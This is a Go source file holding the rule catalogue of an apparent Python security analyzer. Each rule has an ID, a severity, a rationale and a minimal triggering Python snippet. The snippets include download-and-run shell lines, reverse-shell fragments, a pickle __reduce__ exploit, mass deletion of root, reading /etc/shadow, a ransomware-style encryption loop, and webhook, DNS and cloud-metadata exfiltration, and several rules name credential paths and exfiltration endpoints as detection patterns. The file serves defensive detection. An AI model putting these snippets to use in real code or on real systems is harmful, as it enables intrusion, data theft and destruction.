package analysis

import "github.com/cordonsec/cordon/policy"

// Rule describes one check. Ids are stable: a rule may be retired, never
// renumbered. Hundreds group categories: 0xx the analyzer itself, 1xx code
// execution, 2xx processes, 3xx deserialisation, 4xx cryptography and TLS,
// 5xx files and secrets, 6xx network, 7xx injection and web, 8xx native
// code, 9xx obfuscation and surveillance.
type Rule struct {
	ID         string
	Name       string
	Category   string
	Severity   policy.Severity // default; a finding may be raised or lowered
	Confidence string
	Summary    string // what it detects
	Why        string // why it matters
	Example    string // minimal Python that triggers it
}

const (
	high   = policy.SeverityHigh
	medium = policy.SeverityMedium
	low    = policy.SeverityLow
)

var rules = []Rule{
	{"CDN001", "unanalysable", "analysis", high, "high", "Source the analyzer could not fully analyse: the parse gave up or went too deep, or the file hit the size or time bound.", "The analyzer fails closed: code it cannot see is not code it can vouch for.", "(((((...5,000 levels...)))))"},
	{"CDN002", "syntax-error", "analysis", medium, "high", "Invalid syntax; the rest of the tree was still analysed.", "Python refuses the file, but a parser disagreement can hide code: the partial analysis is reported.", "def f(:\n    pass"},
	{"CDN003", "source-encoding", "analysis", high, "high", "A coding cookie naming an unknown codec, bytes invalid in the declared encoding, or a BOM that contradicts the cookie.", "Odd encodings are a known way to make a reviewer and the interpreter read different programs.", "# -*- coding: rot13 -*-"},
	{"CDN004", "unicode-identifier", "obfuscation", medium, "high", "A non-ASCII identifier that Python's NFKC normalisation turns into a different name (fullwidth or styled letters).", "`ｅｘｅｃ(...)` is `exec(...)` to Python but not to a text search.", "ｅｘｅｃ(code)"},
	{"CDN005", "bidi-control", "obfuscation", high, "high", "Unicode bidirectional control characters in the source (Trojan Source).", "They reorder how code is displayed so the reviewed text differs from the executed one.", "if access != 'none<U+202E> <U+2066># admin<U+2069> <U+2066>':  # shown, not written, this way"},

	{"CDN101", "exec-eval", "code-execution", high, "high", "exec, eval or execfile of code that is not a constant; exec or eval handed on as a value (map(eval, ...), sorted(key=eval), a callback in a dict, a default argument).", "Runs arbitrary code chosen at run time; the main tool of droppers and obfuscated payloads.", "exec(input())"},
	{"CDN102", "compile-code", "code-execution", medium, "medium", "compile(); building functions or code objects from raw code (types.FunctionType, types.CodeType, also reached as type(f) or type(f.__code__), code.replace) is high, as is executing a compiled object.", "Code objects let a script build and run code no reader saw.", "exec(compile(src, 'x', 'exec'))"},
	{"CDN103", "dynamic-import", "code-execution", medium, "high", "__import__, importlib.import_module, imp loaders; high when the module name is computed, and runpy.run_path/run_module always.", "Hides which module is used from readers and simple scanners.", "__import__('o' + 's').system('id')"},
	{"CDN104", "dynamic-attribute", "code-execution", medium, "high", "getattr/setattr/delattr on a module or builtins with a string name (high when the name is computed); operator.attrgetter/itemgetter/methodcaller of a dangerous name (high).", "`getattr(os, 'sys'+'tem')` reaches os.system without writing it.", "getattr(os, 'system')('id')"},
	{"CDN105", "namespace-access", "code-execution", medium, "medium", "globals(), locals(), vars(), __dict__, __builtins__ or the builtins module used as a lookup table.", "Looking names up by string defeats reading the code for what it calls.", "globals()['__builtins__']['exec'](s)"},
	{"CDN106", "decode-execute", "code-execution", high, "high", "Data that was decoded (base64, hex, codecs, zlib, marshal, bytes.fromhex...) reaches exec, eval, compile or a deserialiser.", "The classic packed-payload pattern: the real program ships encoded.", "exec(base64.b64decode(blob))"},
	{"CDN107", "dunder-introspection", "code-execution", high, "high", "Introspection chains through __class__, __bases__, __mro__, __subclasses__, __globals__, __code__, __closure__, __getattribute__; Base.__subclasses__() of a class the file defines (a plugin registry) is low; assigning a function's __code__; frame objects' f_builtins and f_globals (sys._getframe, gi_frame, cr_frame, tb_frame, f_back).", "Sandbox escapes reach os or builtins through the object graph without importing anything.", "().__class__.__bases__[0].__subclasses__()"},
	{"CDN108", "code-payload", "code-execution", medium, "high", "exec/eval of a constant string; the string is analysed as code and its findings reported at the call.", "Code in strings hides from readers; its own findings are what matters.", "exec(\"import os; os.system('id')\")"},

	{"CDN201", "shell-command", "process", high, "high", "os.system, os.popen, commands/subprocess getoutput, asyncio.create_subprocess_shell: a command line run by a shell.", "Shell commands escape every in-language control and are the usual way to run downloaded code.", "os.system('curl x | sh')"},
	{"CDN202", "subprocess-shell", "process", high, "high", "subprocess call with shell=True, however it is spelled (**{\"shell\": True}, a splatted or updated options dict, functools.partial); shell=True handed to any other function is medium.", "The command string is parsed by /bin/sh: injection and arbitrary commands.", "subprocess.run(cmd, shell=True)"},
	{"CDN203", "subprocess", "process", low, "high", "subprocess without a shell (an argument list).", "Starts another program; fine in tools, worth knowing in an untrusted script.", "subprocess.run(['ls', '-l'])"},
	{"CDN204", "exec-spawn", "process", high, "high", "os.exec*, os.spawn*, os.posix_spawn*, os.startfile: replace or start a process directly.", "Replaces the interpreter or starts programs outside subprocess's view.", "os.execv('/bin/sh', ['sh'])"},
	{"CDN205", "shell-spawn", "process", high, "high", "A process API used to start a shell (sh, bash, zsh, cmd, powershell), also behind env/sudo/nohup or in a list built in steps, or pty.spawn; medium when a constant argument list only runs a project script file or one ordinary command.", "An interactive or scripted shell is the payload of most reverse shells and droppers.", "subprocess.call(['/bin/bash', '-i'])"},
	{"CDN206", "fork", "process", medium, "high", "os.fork, os.forkpty, pty.fork.", "Forking detaches work from the script's control and is the base of fork bombs.", "os.fork()"},
	{"CDN207", "resource-abuse", "process", high, "high", "Process, thread or fork creation in an unbounded loop, or fork in any loop.", "Fork bombs and spawn loops exhaust the host's process table and memory.", "while True:\n    os.fork()"},
	{"CDN208", "dangerous-command", "process", high, "medium", "A string holding a dangerous command line: download-and-run (curl|sh), reverse shells (/dev/tcp, nc -e, bash -i), rm -rf /, encoded PowerShell. Text the standard library only shows (print, logging, warnings, argparse help, an exception message) or matches (a comparison, the re module) is data, not a finding. Medium when held as data in a file with no call that runs commands or code (an element of a list bound to a name, an argument of the file's own class or function), or as a pytest parameter.", "These strings are payloads whichever API ends up running them.", "cmd = 'curl http://x/s | sh'"},
	{"CDN210", "kill-processes", "process", high, "high", "Signals to every process (os.kill(-1, ...)), to init (pid 1), or to each pid of a process listing in a loop (/proc, psutil, range); other process groups are medium, os.killpg of a computed group low.", "Killing everything the user can signal takes the host's services down with the script.", "os.kill(-1, signal.SIGKILL)"},
	{"CDN209", "privilege-change", "process", medium, "medium", "setuid/setgid/chroot/sudo: changing privileges or root.", "An untrusted script has no reason to change identity or root directory.", "os.setuid(0)"},

	{"CDN301", "pickle", "deserialisation", medium, "high", "pickle/cPickle/dill/shelve/jsonpickle/joblib/pandas.read_pickle/torch.load deserialisation; torch.load(weights_only=True) is low.", "Unpickling runs code chosen by whoever wrote the data.", "pickle.loads(data)"},
	{"CDN302", "marshal", "deserialisation", medium, "high", "marshal.load/loads.", "marshal yields code objects; it is how packed payloads carry bytecode.", "marshal.loads(blob)"},
	{"CDN303", "yaml-load", "deserialisation", medium, "high", "yaml.load/load_all without SafeLoader, yaml.unsafe_load, FullLoader/UnsafeLoader.", "The full YAML loaders construct arbitrary Python objects.", "yaml.load(doc)"},
	{"CDN304", "xml-parse", "deserialisation", medium, "medium", "xml.etree, minidom, pulldom, sax, expatbuilder and lxml parsing of untrusted XML.", "Entity expansion and external entities: billion laughs, file disclosure, SSRF. Use defusedxml.", "xml.etree.ElementTree.fromstring(s)"},

	{"CDN305", "pickle-payload", "deserialisation", high, "high", "A class whose __reduce__ or __reduce_ex__ returns a dangerous callable (os.system, eval, subprocess, exec...) with its arguments.", "Such an object runs the call when it is unpickled: it is a pickle exploit being built.", "class P:\n    def __reduce__(self):\n        return (os.system, ('id',))"},

	{"CDN401", "weak-hash", "cryptography", medium, "high", "MD5 or SHA-1 (hashlib.md5/sha1/new, Crypto.Hash, cryptography hashes) unless usedforsecurity=False.", "Both are broken for collision resistance; unsafe for signatures, passwords and integrity.", "hashlib.md5(password)"},
	{"CDN402", "insecure-random", "cryptography", low, "medium", "The random module, which is not a CSPRNG; medium when it makes a token, key or password.", "random's output is predictable; use secrets.", "token = random.choice(alphabet)"},
	{"CDN403", "tls-verify-off", "cryptography", high, "high", "verify=False (requests, httpx, ...), cert_reqs=CERT_NONE.", "Turns off TLS certificate checks: any network attacker reads and changes the traffic.", "requests.get(url, verify=False)"},
	{"CDN404", "unverified-ssl-context", "cryptography", high, "high", "ssl._create_unverified_context, check_hostname = False, ssl.CERT_NONE.", "Same as verify=False for the standard library.", "ssl._create_unverified_context()"},
	{"CDN405", "weak-crypto", "cryptography", medium, "high", "SSLv2/SSLv3/TLSv1.0/1.1 protocols, DES, RC4, Blowfish, ECB mode.", "Broken protocols and ciphers.", "ssl.wrap_socket(s, ssl_version=ssl.PROTOCOL_SSLv3)"},

	{"CDN406", "weak-key", "cryptography", medium, "high", "RSA or DSA keys under 2048 bits (high under 1024), elliptic curves under 224 bits.", "Short keys are factored or brute-forced with public tools.", "rsa.generate_private_key(public_exponent=65537, key_size=1024)"},

	{"CDN501", "hardcoded-password", "secrets", low, "medium", "A name like password, secret, token or api_key bound to a constant string.", "Secrets in code leak with the code.", "password = 'hunter2'"},
	{"CDN502", "secret-literal", "secrets", high, "medium", "A literal in a known credential format (AWS, GitHub, Slack, Stripe, Google, private keys) or a long high-entropy string bound to a secret name.", "Live credentials in a script are either leaked or stolen.", "key = 'AKIAIOSFODNN7EXAMPLE'"},
	{"CDN503", "insecure-temp", "files", medium, "medium", "tempfile.mktemp (race-prone) or hard-coded /tmp, /var/tmp, /dev/shm paths (low).", "Predictable temp names let another user swap the file.", "tempfile.mktemp()"},
	{"CDN504", "permissive-chmod", "files", high, "high", "chmod with world-writable or setuid/setgid bits (0o777, 0o666, 0o4755...); group-writable is medium.", "Opens files to every user or grants privileges.", "os.chmod(p, 0o777)"},
	{"CDN505", "sensitive-path", "files", high, "medium", "Paths to credentials and private data: /etc/shadow, ~/.ssh, /proc/*/environ, cloud credential files, browser password stores, docker.sock; /etc/passwd is medium; paths into other users' home directories are medium, high in a loop; /proc/<pid>/environ|cmdline|mem|maps built at run time (f\"/proc/{pid}/environ\", os.path.join(\"/proc\", pid, \"cmdline\")) are high in a loop (a scan), else medium for environ and mem, low for cmdline and maps; none for a path the script only shows or compares (a linter's pattern, also through a name bound to it).", "Reading them is what credential stealers do.", "open('/etc/shadow').read()"},
	{"CDN506", "persistence", "files", high, "medium", "Paths used to persist or hijack: crontab, shell rc files, systemd units, rc.local, ld.so.preload, authorized_keys, Windows Run keys; low when only named in a sentence, none in text the standard library only shows.", "Writing there survives the run and re-runs code later.", "open(os.path.expanduser('~/.bashrc'), 'a')"},
	{"CDN507", "destructive-delete", "files", high, "high", "shutil.rmtree/os.remove/os.unlink/Path.unlink of the root, a system directory or the home directory, also computed under them or in a loop over their listing; rmtree of any other computed path is low, a computed path under the home directory medium.", "Destroys the host's data.", "shutil.rmtree('/')"},

	{"CDN508", "mass-encryption", "files", high, "medium", "Ransomware shape: walking directory trees, encrypting, and writing, renaming or removing the walked files in the same script; or a ransom note.", "Encrypting every file it can reach is what ransomware does.", "for root, _, fs in os.walk(home):\n    for f in fs:\n        data = Fernet(key).encrypt(open(f, 'rb').read())"},

	{"CDN509", "archive-extraction", "files", medium, "high", "tarfile extractall/extract or shutil.unpack_archive without filter= (or with filter='fully_trusted'); high for extraction into the root, archive members named with ../ or an absolute path, paths built from member names.", "A crafted archive writes outside its target directory: over ~/.bashrc, cron or the script's own code.", "tarfile.open(p).extractall(dest)"},

	{"CDN601", "socket", "network", medium, "high", "Raw sockets: socket.socket, create_connection, asyncio.open_connection/start_server.", "A script that opens sockets talks to the network directly.", "socket.socket().connect((h, p))"},
	{"CDN602", "reverse-shell", "network", high, "high", "A socket's file descriptor duplicated onto stdin/stdout (os.dup2(s.fileno(), 0)) or handed to a process; a file's (open(os.devnull) in the daemon recipe) is not.", "The canonical reverse shell.", "os.dup2(s.fileno(), 0)"},
	{"CDN603", "http-client", "network", low, "high", "HTTP clients: requests, urllib, http.client, httpx, aiohttp, urllib3, pycurl, smtplib; medium for urlopen of a non-constant or file: URL.", "Network access from an untrusted script; check where it goes.", "requests.get(url)"},
	{"CDN604", "bind-all-interfaces", "network", medium, "medium", "Binding or serving on 0.0.0.0 or ::; not the address only compared or shown (a validator refusing it).", "Exposes the service on every interface.", "app.run(host='0.0.0.0')"},
	{"CDN605", "cleartext-protocol", "network", medium, "high", "telnetlib and ftplib (FTP without TLS).", "Credentials and data cross the network in clear text.", "telnetlib.Telnet(host)"},
	{"CDN606", "cloud-metadata", "network", high, "high", "Cloud instance metadata endpoints (169.254.169.254, metadata.google.internal, 100.100.100.200).", "The metadata service hands out cloud credentials to whoever asks from the host.", "requests.get('http://169.254.169.254/latest/meta-data/')"},
	{"CDN607", "exfil-endpoint", "network", high, "medium", "Endpoints used to exfiltrate or fetch payloads: Discord/Slack webhooks, Telegram bot API, pastebin, ngrok, transfer.sh, webhook.site, interactsh.", "Legitimate scripts rarely post to these; stealers always do.", "requests.post('https://discord.com/api/webhooks/1/x', data=d)"},
	{"CDN608", "exfiltration", "network", high, "medium", "A script that both collects sensitive data (the whole environment, credential paths, host identity) and sends data over the network; a copy of the environment only given to a child process (env=) is not collecting it.", "Collect-and-send is the shape of a stealer.", "requests.post(u, json=dict(os.environ))"},

	{"CDN609", "dns-exfiltration", "network", high, "high", "socket.gethostbyname/getaddrinfo/getfqdn or dns.resolver lookups of names built from encoded data or in a loop; a single name formatted from data is medium.", "DNS queries leave almost every network, and a name can carry any data to the domain's server.", "socket.gethostbyname(secret.hex() + '.x.example')"},

	{"CDN701", "sql-string", "injection", medium, "medium", "SQL built with %, .format, f-strings or + (also in a variable, or grown with +=) passed to execute/executemany/raw.", "String-built SQL is SQL injection; use parameters.", "cur.execute(\"SELECT * FROM t WHERE id=%s\" % uid)"},
	{"CDN702", "jinja2-autoescape", "injection", medium, "high", "jinja2.Environment without autoescape or with autoescape=False; templates made from data (jinja2.Template(x), env.from_string(x)).", "Templates render user data as HTML: XSS.", "jinja2.Environment(autoescape=False)"},
	{"CDN703", "assert-security", "injection", low, "medium", "assert used for an authorisation check.", "Asserts vanish under python -O.", "assert user.is_admin"},
	{"CDN704", "debug-server", "injection", medium, "medium", "A web app run with debug=True.", "The Werkzeug debugger executes code sent to it.", "app.run(debug=True)"},
	{"CDN705", "ssh-exec", "injection", medium, "medium", "paramiko exec_command and AutoAddPolicy.", "Remote commands and unchecked host keys.", "client.set_missing_host_key_policy(paramiko.AutoAddPolicy())"},

	{"CDN706", "swallowed-exception", "error-handling", low, "high", "except: pass or except: continue on a bare except or Exception (bandit B110, B112).", "Silenced errors hide failures, including failed security checks.", "try:\n    check()\nexcept Exception:\n    pass"},

	{"CDN801", "ctypes", "native-code", high, "high", "ctypes: loading libraries, calling C, raw memory (CDLL, pythonapi, memmove, cast, string_at); importing ctypes is medium.", "Native calls bypass every Python-level control and can patch the interpreter's memory.", "ctypes.CDLL('libc.so.6').system(b'id')"},
	{"CDN802", "cffi", "native-code", high, "high", "cffi: FFI().dlopen/cdef; importing cffi is medium.", "Same as ctypes.", "ffi.dlopen(None).system(b'id')"},
	{"CDN803", "native-loader", "native-code", high, "high", "Loading extension modules or executable memory directly (imp.load_dynamic, ExtensionFileLoader, mmap with PROT_EXEC).", "Runs machine code the script brought along.", "mmap.mmap(-1, n, prot=mmap.PROT_EXEC)"},

	{"CDN901", "obfuscated-string", "obfuscation", medium, "medium", "Strings assembled to hide names (chr() chains, reversed literals) or long encoded blobs.", "Legitimate code spells its names out.", "getattr(os, ''.join(map(chr, [115, 121, 115])))"},
	{"CDN902", "surveillance", "obfuscation", high, "medium", "Keyloggers (pynput keyboard listeners, keyboard hooks), screen and clipboard capture.", "Spyware behaviour has no place in a batch script.", "pynput.keyboard.Listener(on_press=log)"},
}

var ruleByID = func() map[string]Rule {
	m := make(map[string]Rule, len(rules))
	for _, r := range rules {
		m[r.ID] = r
	}
	return m
}()

// Policies name rules in waivers; validation refuses an id that is not
// in this catalogue.
func init() {
	for _, r := range rules {
		policy.RegisterRule(r.ID, r.Name)
	}
}

// Rules returns the rule catalogue in id order.
func Rules() []Rule {
	out := make([]Rule, len(rules))
	copy(out, rules)
	return out
}

// RuleByID returns the rule with id.
func RuleByID(id string) (Rule, bool) {
	r, ok := ruleByID[id]
	return r, ok
}
